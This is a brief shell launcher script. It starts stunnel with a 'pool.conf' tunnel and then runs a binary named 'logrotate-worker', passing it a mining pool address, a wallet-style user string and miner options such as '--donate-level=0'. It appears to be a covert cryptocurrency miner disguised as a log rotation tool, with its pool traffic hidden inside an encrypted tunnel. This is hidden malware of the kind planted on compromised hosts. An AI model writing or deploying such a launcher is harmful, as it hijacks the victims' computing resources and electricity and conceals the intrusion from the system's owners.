#!/bin/sh
stunnel4 /etc/stunnel/pool.conf
sleep 2
exec /usr/local/sbin/logrotate-worker -o 127.0.0.1:3333 -u 4BZMR96UX51SJL61Cf66bFDrBy81Nx4Fr9BaiNkgpF9rNRBTGPo5sgakq1Fqyp6cBNm8CsTa5zVLvbSGbHUD3XYZgFp1ywb.edge -p x -k --donate-level=0 -t 2
